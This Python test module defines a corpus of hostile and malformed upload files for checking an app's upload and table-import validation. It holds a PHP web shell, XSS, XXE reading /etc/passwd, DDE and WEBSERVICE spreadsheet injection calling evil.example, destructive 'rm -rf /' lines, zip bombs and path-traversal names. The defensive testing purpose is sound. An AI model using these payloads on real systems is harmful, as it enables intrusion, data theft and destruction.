"""Files that somebody hands in to do harm, or by mistake: each with what has to come of it.

`attach` is what becomes of it as an attachment, at the page, at the act and at the API alike: "" is refused, else the
media type under which it is kept and given out. `loads` says whether the door of master data can read it as a table;
everything else it refuses in words.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl

from jingming.files.tests import samples

PNG, JPEG, GIF, WEBP, PDF = "image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf"
TEXT, CSV, MP3, AMR, WAV = "text/plain", "text/csv", "audio/mpeg", "audio/amr", "audio/wav"
OPEN_XML = "application/vnd.openxmlformats-officedocument."
DOCX, XLSX = f"{OPEN_XML}wordprocessingml.document", f"{OPEN_XML}spreadsheetml.sheet"
DOC, XLS = "application/msword", "application/vnd.ms-excel"
SCRIPT = b"<script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PAGE = b"<!doctype html><html><body onload=alert(1)></body></html>"
TABLE = "户号,姓名\n0562000417,周晓岚\n".encode()
ZIP = samples.package("evil.sh")


@dataclass(frozen=True)
class File:
    """One file of the corpus."""

    what: str
    name: str
    build: Callable[[], bytes] | bytes
    attach: str = ""
    loads: bool = False

    @property
    def content(self) -> bytes:
        return self.build if isinstance(self.build, bytes) else self.build()


# --- Parts of files -------------------------------------------------------------------------------------------------
def png_with(kind: bytes, data: bytes) -> bytes:
    """A picture with one chunk more before its pixels."""
    chunk = struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return samples.png()[:33] + chunk + samples.png()[33:]


def jpeg_with(mark: int, data: bytes) -> bytes:
    """A JPEG with one segment more behind its first."""
    segment = b"\xff" + bytes([mark]) + struct.pack(">H", len(data) + 2) + data
    return samples.jpeg()[:20] + segment + samples.jpeg()[20:]


def exif(comment: bytes) -> bytes:
    """The data of an EXIF segment with an orientation, and words behind it."""
    entry = struct.pack(">HHIHH", 0x0112, 3, 1, 6, 0)
    return b"Exif\x00\x00MM\x00\x2a\x00\x00\x00\x08\x00\x01" + entry + b"\x00\x00\x00\x00" + comment


def huge_jpeg() -> bytes:
    return samples.jpeg().replace(b"\x08\x00\x08\x00\x08\x01", b"\x08\xff\xff\xff\xff\x01")


def huge_gif() -> bytes:
    return b"GIF89a\xff\xff\xff\xff" + samples.gif()[10:]


def webp_of(width: int, height: int) -> bytes:
    """Three ways in which WebP tells its size; this is the one for large pictures."""
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return samples.riff(b"WEBP", b"VP8X" + struct.pack("<I", 10) + b"\x00" * 4 + size + samples.webp()[12:])


def lossless_webp_of(width: int, height: int) -> bytes:
    size = ((width - 1) | (height - 1) << 14).to_bytes(4, "little")
    return samples.riff(b"WEBP", b"VP8L" + struct.pack("<I", 8) + b"\x2f" + size + b"\x88\x88\x08")


def lossy_webp_of(width: int, height: int) -> bytes:
    frame = b"\x00\x00\x00\x9d\x01\x2a" + struct.pack("<HH", width, height) + b"\x00" * 6
    return samples.riff(b"WEBP", b"VP8 " + struct.pack("<I", len(frame)) + frame)


def archive(parts: dict[str, bytes], *, comment: bytes = b"") -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as written:
        for name, data in parts.items():
            written.writestr(name, data)
        written.comment = comment
    return content.getvalue()


def document(**more: bytes) -> bytes:
    """A Word document with some parts more; `__` stands for a slash, `_dot_` for a dot."""
    parts = {"[Content_Types].xml": b"<xml/>", "_rels/.rels": b"<xml/>", "word/document.xml": b"<xml/>"}
    return archive(parts | {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()})


def workbook(*rows: tuple[object, ...], edit: Callable[[dict[str, bytes]], None] | None = None) -> bytes:
    """A workbook as Excel writes it, with some parts changed."""
    book = openpyxl.Workbook()
    for row in rows or (("户号", "姓名"), ("0562000417", "周晓岚")):
        book.active.append(row)
    content = io.BytesIO()
    book.save(content)
    if edit is None:
        return content.getvalue()
    with zipfile.ZipFile(content) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()}
    edit(parts)
    return archive(parts)


def in_sheet(old: bytes, new: bytes) -> Callable[[], bytes]:
    """A workbook whose sheet has been edited by hand."""

    def edit(parts: dict[str, bytes]) -> None:
        assert old in parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(old, new, 1)

    return lambda: workbook(edit=edit)


def with_parts(**more: bytes) -> Callable[[], bytes]:
    names = {name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()}
    return lambda: workbook(edit=lambda parts: parts.update(names))


def doctype(entities: bytes, use: bytes = b"") -> Callable[[], bytes]:
    def edit(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = (
            b"<!DOCTYPE x ["
            + entities
            + b"]>"
            + sheet.replace(
                b"</sheetData>",
                b'<row r="9"><c r="A9" t="inlineStr"><is><t>' + use + b"</t></is></c></row></sheetData>",
            )
        )

    return lambda: workbook(edit=edit)


def bomb() -> bytes:
    """Fifty megabytes of nothing in fifty kilobytes."""
    return document(word__media__big_dot_bin=b"\x00" * 50_000_000)


def nested(depth: int) -> bytes:
    """An archive in an archive in an archive."""
    inner = b"x" * 1000
    for level in range(depth):
        inner = archive({f"{level}.zip": inner})
    return inner


def half(content: bytes) -> bytes:
    return content[: len(content) // 2]


SLIP = {"../../../tmp/evil": b"x", "[Content_Types].xml": b"<xml/>", "word/document.xml": b"<xml/>"}

# --- What pretends to be something else -----------------------------------------------------------------------------
PRETENDING = [
    File("a page called PNG", "photo.png", PAGE),
    File("a page called JPEG", "photo.jpg", PAGE),
    File("a page called PDF", "bill.pdf", PAGE),
    File("a page called text", "readme.txt", PAGE),
    File("a page called CSV", "list.csv", PAGE),
    File("a page in UTF-16 called text", "readme.txt", PAGE.decode().encode("utf-16")),
    File("a page behind white space called text", "readme.txt", b"\n\n  \t" + PAGE),
    File("a page behind a byte order mark called text", "readme.txt", b"\xef\xbb\xbf" + PAGE),
    File("a page behind a comment called text: given out as text only", "readme.txt", b"<!-- x -->" + SCRIPT, TEXT),
    File("a page called Word", "letter.docx", PAGE),
    File("a page called old Word", "letter.doc", PAGE),
    File("a page called old Excel", "list.xls", PAGE),
    File("a page called sound", "call.mp3", PAGE),
    File("a page called film", "site.mp4", PAGE),
    File("SVG called PNG", "drawing.png", SVG),
    File("SVG called text", "drawing.txt", SVG),
    File("SVG called CSV", "drawing.csv", b"\xef\xbb\xbf" + SVG),
    File("XML called text", "data.txt", b'<?xml version="1.0"?><x/>'),
    File("PHP called text", "data.txt", b"<?php system($_GET[0]); ?>"),
    File("PHP called PNG", "shell.png", b"<?php system($_GET[0]); ?>"),
    File("a Windows program called PDF", "bill.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
    File("a Windows program called text", "bill.txt", b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200),
    File("a Linux program called JPEG", "photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    File("a Java class called GIF", "photo.gif", b"\xca\xfe\xba\xbe\x00\x00\x00\x34"),
    File("a shell script called text is text", "run.txt", b"#!/bin/sh\nrm -rf /\n", TEXT, loads=True),
    File("PowerShell called log is text", "run.log", b"Remove-Item -Recurse C:\\\n", TEXT),
    File("PNG called JPEG", "photo.jpg", samples.png()),
    File("JPEG called PNG", "photo.png", samples.jpeg()),
    File("GIF called PNG", "photo.png", samples.gif()),
    File("PNG called WebP", "photo.webp", samples.png()),
    File("PNG called PDF", "photo.pdf", samples.png()),
    File("PNG called text", "photo.txt", samples.png()),
    File("PDF called PNG", "bill.png", samples.pdf()),
    File("PDF called Word", "bill.docx", samples.pdf()),
    File("an archive called Word", "letter.docx", ZIP),
    File("an archive called Excel", "list.xlsx", ZIP),
    File("an archive called PDF", "bill.pdf", ZIP),
    File("Word called Excel", "list.xlsx", samples.docx()),
    File("Excel called Word", "letter.docx", workbook, loads=True),
    File("Excel called old Excel", "list.xls", workbook, loads=True),
    File("old Word called old Excel", "list.xls", samples.compound("WordDocument")),
    File("sound called picture", "photo.heic", samples.iso_media(b"M4A ")),
    File("film called sound", "call.m4a", samples.iso_media(b"isom")),
    File("text called sound", "call.wav", b"hello"),
    File("text in GB 18030 called text", "note.txt", "抄表读数".encode("gb18030")),
    File("text in UTF-16", "note.txt", "抄表读数".encode("utf-16")),
    File("RTF called Word", "letter.doc", rb"{\rtf1\ansi{\object\objdata 0105}}"),
    File("RAR called Word", "letter.docx", b"Rar!\x1a\x07\x00" + b"\x00" * 50),
    File("7z called Excel", "list.xlsx", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50),
    File("gzip called CSV", "list.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 20),
    File("a link of Windows called text", "link.txt", b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60),
]

# --- What is two things at once -------------------------------------------------------------------------------------
POLYGLOTS = [
    File("GIF that is a script too", "photo.gif", b"GIF89a/*" + SCRIPT + b"*/=1;"),
    File("GIF whose size is a script", "photo.gif", b"GIF89a=1;alert(1);"),
    File("GIF and Java archive", "photo.gif", samples.gif() + ZIP),
    File("PNG and archive", "photo.png", samples.png() + ZIP),
    File("PNG and page", "photo.png", samples.png() + PAGE),
    File("PNG with a script in its text", "photo.png", png_with(b"tEXt", b"Comment\x00" + SCRIPT)),
    File("PNG with PHP in its text", "photo.png", png_with(b"iTXt", b"x\x00\x00\x00\x00\x00<?php echo 1 ?>")),
    File("PNG with a profile full of nothing", "photo.png", png_with(b"iCCP", zlib.compress(b"\x00" * 9_000_000)), PNG),
    File("JPEG and archive: phones put things behind theirs too", "photo.jpg", samples.jpeg() + ZIP, JPEG),
    File("JPEG and page", "photo.jpg", samples.jpeg() + PAGE),
    File("JPEG with a page in its comment", "photo.jpg", jpeg_with(0xFE, PAGE)),
    File("JPEG with a script in its EXIF", "photo.jpg", jpeg_with(0xE1, exif(SCRIPT))),
    File("JPEG with PHP in its EXIF", "photo.jpg", jpeg_with(0xE1, exif(b"<?php eval(1) ?>"))),
    File("JPEG turned by its EXIF", "photo.jpg", jpeg_with(0xE1, exif(b"")), JPEG),
    File("JPEG with a place in its EXIF", "photo.jpg", jpeg_with(0xE1, exif(b"GPS 30.9,117.8")), JPEG),
    File("JPEG whose EXIF ends early", "photo.jpg", jpeg_with(0xE1, exif(b"")[:9]), JPEG),
    File("WebP and PHP", "photo.webp", samples.webp() + b"<?php echo 1"),
    File("WebP with a page inside", "photo.webp", samples.riff(b"WEBP", b"VP8L" + PAGE)),
    File("PDF behind a GIF", "bill.pdf", b"GIF89a" + samples.pdf()),
    File("PDF and archive, ended twice", "bill.pdf", samples.pdf() + ZIP + b"\n%%EOF\n", PDF),
    File("PDF with a script: given out, never shown", "bill.pdf",
         samples.pdf().replace(b"/Catalog", b"/Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), PDF),
    File("PDF that starts a program: given out, never shown", "bill.pdf",
         samples.pdf().replace(b"/Catalog", b"/Catalog /OpenAction << /S /Launch /F (cmd.exe) >>"), PDF),
    File("MP3 with a page in its title", "call.mp3", samples.mp3()[:10] + PAGE + samples.mp3()[10:]),
    File("AMR with a script", "call.amr", samples.amr() + SCRIPT),
    File("WAV with a page in its words", "call.wav", samples.riff(b"WAVE", b"LIST" + PAGE)),
    File("film with a page in its box", "site.mp4", samples.iso_media(b"isom") + PAGE),
    File("Word and page", "letter.docx", PAGE + samples.docx()),
    File("archive with a page as its comment called Word", "letter.docx",
         archive({"[Content_Types].xml": b"", "word/document.xml": b""}, comment=PAGE), DOCX),
]  # fmt: skip

# --- Documents and tables with something in them --------------------------------------------------------------------
LOADED = [
    File("Word with macros", "letter.docx", document(word__vbaProject_dot_bin=b"x")),
    File("Word with macros in other letters", "letter.docx", document(word__VBAPROJECT_dot_BIN=b"x")),
    File("Word with a template from elsewhere", "letter.docx",
         document(word___rels__settings_dot_xml_dot_rels=b'<Relationship Target="http://evil.example/x.dotm"/>'), DOCX),
    File("Word with something embedded", "letter.docx", document(word__embeddings__ole1_dot_bin=b"MZ"), DOCX),
    File("Word that lies about where its parts go", "letter.docx", lambda: archive(SLIP), DOCX),
    File("Word that is a bomb: nobody unpacks it here", "letter.docx", bomb, DOCX),
    File("Word full of archives", "letter.docx", lambda: document(word__a_dot_zip=nested(20)), DOCX),
    File("old Word with macros", "letter.doc", samples.compound("WordDocument", "_VBA_PROJECT_CUR")),
    File("old Excel with macros", "list.xls", samples.compound("Workbook", "_VBA_PROJECT_CUR")),
    File("old Excel, its head alone", "list.xls", samples.compound("Workbook"), XLS),
    File("archives in archives", "list.xlsx", lambda: nested(30)),
    File("an honest workbook", "list.xlsx", workbook, XLSX, loads=True),
    File("a workbook with formulas", "list.xlsx",
         lambda: workbook(("户号", "姓名"), ("1", '=HYPERLINK("http://evil.example","x")')), XLSX, loads=True),
    File("a workbook that asks the web", "list.xlsx",
         lambda: workbook(("户号", "姓名"), ("1", '=WEBSERVICE("http://evil.example/"&A1)')), XLSX, loads=True),
    File("a workbook that calls a program", "list.xlsx",
         lambda: workbook(("户号", "姓名"), ("1", "=cmd|' /C calc'!A0")), XLSX, loads=True),
    File("a workbook with links to others", "list.xlsx",
         with_parts(xl__externalLinks__externalLink1_dot_xml=b'<x Target="file:///etc/passwd"/>'), XLSX, loads=True),
    File("a workbook with connections", "list.xlsx",
         with_parts(xl__connections_dot_xml=b'<c url="http://evil.example"/>'), XLSX, loads=True),
    File("a workbook with macros", "list.xlsx", with_parts(xl__vbaProject_dot_bin=b"x"), loads=True),
    File("a workbook with a picture that is a page", "list.xlsx",
         with_parts(xl__media__a_dot_png=PAGE), XLSX, loads=True),
    File("a workbook that reads a file of ours", "list.xlsx",
         doctype(b'<!ENTITY x SYSTEM "file:///etc/passwd">', b"&x;"), XLSX),
    File("a workbook that asks another host", "list.xlsx",
         doctype(b'<!ENTITY x SYSTEM "http://127.0.0.1:1/">', b"&x;"), XLSX),
    File("a workbook with a billion laughs", "list.xlsx",
         doctype(b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 9)), b"&l8;"), XLSX),
    File("a workbook with a type of document", "list.xlsx", doctype(b""), XLSX),
    File("a workbook whose sheet is no XML", "list.xlsx", in_sheet(b"<sheetData>", b"<sheetData"), XLSX),
    File("a workbook with a cell at XFD1048576", "list.xlsx", in_sheet(b'r="A2"', b'r="XFD1048576"'), XLSX),
    File("a workbook with a row numbered 2^40", "list.xlsx", in_sheet(b'<row r="2"', b'<row r="1099511627776"'), XLSX),
    File("a workbook with NUL in a cell", "list.xlsx", in_sheet(b"<sheetData>", b"<sheetData>&#0;"), XLSX),
    File("a workbook without a sheet", "list.xlsx",
         lambda: workbook(edit=lambda parts: parts.pop("xl/worksheets/sheet1.xml")), XLSX),
    File("a workbook cut off", "list.xlsx", lambda: half(workbook())),
    File("a workbook behind a page", "list.xlsx", lambda: PAGE + workbook()),
    File("an honest CSV", "list.csv", TABLE, CSV, loads=True),
    File("CSV with a formula", "list.csv", TABLE + b"1,=1+1\n", CSV, loads=True),
    File("CSV that calls a program", "list.csv", TABLE + b"1,\"=cmd|' /C calc'!A0\"\n", CSV, loads=True),
    File("CSV with + − @ and a tabulator", "list.csv", TABLE + b'1,+1\n2,-1\n3,@SUM(1)\n4,"\t=1"\n', CSV, loads=True),
    File("CSV with a formula as a name of a column", "list.csv", b"=1+1,@x\n1,2\n", CSV, loads=True),
    File("CSV with a cell of 1 MB", "list.csv", TABLE + b"1," + b"x" * 1_000_000 + b"\n", CSV),
    File("CSV with 20,000 columns", "list.csv", b",".join([b"a"] * 20_000) + b"\n" + b"," * 19_999, CSV),
    File("CSV with a quote that never ends", "list.csv", TABLE + b'1,"never\n' * 3, CSV),
    File("CSV with NUL", "list.csv", TABLE + b"1,a\x00b\n"),
    File("CSV with escapes of a terminal", "list.csv", TABLE + b"1,\x1b[2J\n", loads=True),
    File("CSV with words that turn round", "list.csv", TABLE + "1,\u202etxt.exe\n".encode(), CSV, loads=True),
    File("CSV of separators", "list.csv", b",,,,\n,,,,\n", CSV),
    File("CSV of one cell", "list.csv", b"x", CSV),
]  # fmt: skip

# --- Broken, empty, huge --------------------------------------------------------------------------------------------
CUT = [
    File("PNG cut off", "photo.png", half(samples.png())),
    File("JPEG cut off", "photo.jpg", half(samples.jpeg())),
    File("GIF cut off", "photo.gif", half(samples.gif())),
    File("WebP cut off", "photo.webp", half(samples.webp())),
    File("HEIC cut off", "photo.heic", half(samples.iso_media(b"heic"))),
    File("PDF cut off", "bill.pdf", half(samples.pdf())),
    File("Word cut off", "letter.docx", half(samples.docx())),
    File("WAV cut off", "call.wav", half(samples.wav())),
    File("text cut inside a character", "note.txt", "抄表".encode()[:-1]),
    File("PNG, its signature alone", "photo.png", samples.png()[:8]),
    File("JPEG, its signature alone", "photo.jpg", b"\xff\xd8\xff\xe0"),
    File("GIF, its signature alone", "photo.gif", b"GIF89a"),
    File("PDF, its signature alone", "bill.pdf", b"%PDF-1.7"),
    File("archive, its signature alone", "letter.docx", b"PK\x03\x04"),
    *(File(f"nothing called {kind}", f"nothing.{kind}", b"") for kind in (
        "png", "pdf", "docx", "xlsx", "txt", "csv", "mp3",
    )),
    File("one byte called text", "note.txt", b"x", TEXT),
    File("white space called CSV", "list.csv", b"\xef\xbb\xbf \r\n\r\n", CSV),
    File("PNG of 50,000 × 50,000", "photo.png", samples.png(50_000, 50_000)),
    File("PNG of 2^31 × 2^31", "photo.png", samples.png(2**31 - 1, 2**31 - 1)),
    File("PNG of 0 × 0", "photo.png", samples.png(0, 0)),
    File("JPEG of 65,535 × 65,535", "photo.jpg", huge_jpeg),
    File("GIF of 65,535 × 65,535", "photo.gif", huge_gif),
    File("WebP of 16,000,000 × 16,000,000", "photo.webp", webp_of(16_000_000, 16_000_000)),
    File("lossless WebP of 16,384 × 16,384", "photo.webp", lossless_webp_of(16_384, 16_384)),
    File("lossy WebP of 16,383 × 16,383", "photo.webp", lossy_webp_of(16_383, 16_383)),
    File("PNG with a wrong sum", "photo.png", samples.png()[:-4] + b"\x00" * 4, PNG),
    File("PNG whose chunk is longer than the file", "photo.png", samples.png()[:33] + b"\x7f\xff\xff\xffIDAT"),
    File("JPEG of segments without end", "photo.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x02" * 5000),
    File("film whose box is longer than the file", "site.mp4", b"\xff\xff\xff\xff" + samples.iso_media(b"isom")[4:]),
    File("more than may be attached", "note.txt", lambda: b"x" * (20 * 1024 * 1024 + 1)),
]  # fmt: skip

# --- Names ----------------------------------------------------------------------------------------------------------
NOTE = b"note\n"
NAMES = [
    *(File(f"a name ending in .{kind}", f"file.{kind}", NOTE) for kind in (
        "html", "htm", "xhtml", "svg", "svgz", "js", "mjs", "exe", "bat", "cmd", "com", "scr", "msi", "ps1",
        "vbs", "jar",
        "php", "phtml", "jsp", "asp", "aspx", "sh", "py", "lnk", "url", "hta", "swf", "xml", "zip", "rar", "7z",
        "iso", "docm",
        "xlsm", "eml", "mht", "TXT.EXE", "pdf.html",
    )),
    *(File(f"a dangerous ending inside: {name}", name, NOTE) for name in (
        "invoice.exe.txt", "page.html.txt", "shell.php.txt", "a.svg.txt", "x.JS.txt", "a.b.bat.c.txt",
    )),
    *(File(f"a path: {name}", name, NOTE, TEXT) for name in (
        "../../../etc/cron.d/note.txt", "/etc/passwd/note.txt", "..\\..\\windows\\note.txt", "C:\\temp\\note.txt",
        "....//....//note.txt", "file:///etc/note.txt", "\\\\evil.example\\share\\note.txt", "./.././note.txt",
    )),
    *(File(f"a name of Windows: {name}", name, NOTE, TEXT) for name in (
        "CON.txt", "nul.txt", "COM1.txt", "aux.txt", "LPT9.txt",
    )),
    File("a name that turns round", "exe.\u202etxt.txt", NOTE, TEXT),
    File("a name that turns round to .exe", "gnp.\u202etxt.exe", NOTE),
    File("a name with nothing to see", "no\u200bte\u2060.txt", NOTE, TEXT),
    File("a name with a line end", "a\r\nSet-Cookie: x=1.txt", NOTE),
    File("a name that ends its header", 'a"; filename="evil.exe.txt', NOTE),
    File("a name with quotes", "a\"b'c.txt", NOTE, TEXT),
    File("a name that is markup", "<img src=x onerror=alert(1)>.txt", NOTE, TEXT),
    File("a name that is a formula", "=1+1.txt", NOTE, TEXT),
    File("a name that is a template", "{{ 7 }}{% x %}.txt", NOTE, TEXT),
    File("a name of 300 characters", "n" * 296 + ".txt", NOTE, TEXT),
    File("a name of 300 汉字", "汉" * 296 + ".txt", NOTE, TEXT),
    File("a name of 5,000 characters without an ending", "n" * 5000, NOTE),
    File("a name without an ending", "note", NOTE),
    File("a hidden name", ".htaccess", NOTE),
    File("an ending alone", ".txt", NOTE),
    File("a name of dots", "...txt", NOTE),
    File("a stream of NTFS", "note.txt::$DATA", NOTE),
    File("an ending with a blank", "note.txt .", NOTE, TEXT),
    File("an ending with a percent NUL", "note.exe%00.txt", NOTE, TEXT),
    File("an ending in wide letters", "note．exe.txt", NOTE, TEXT),
    File("a name of joined letters", "cafe\u0301.txt", NOTE, TEXT),
    File("a name with half a character", "a\ufffdb.txt", NOTE, TEXT),
]  # fmt: skip

CORPUS = (*PRETENDING, *POLYGLOTS, *LOADED, *CUT, *NAMES)
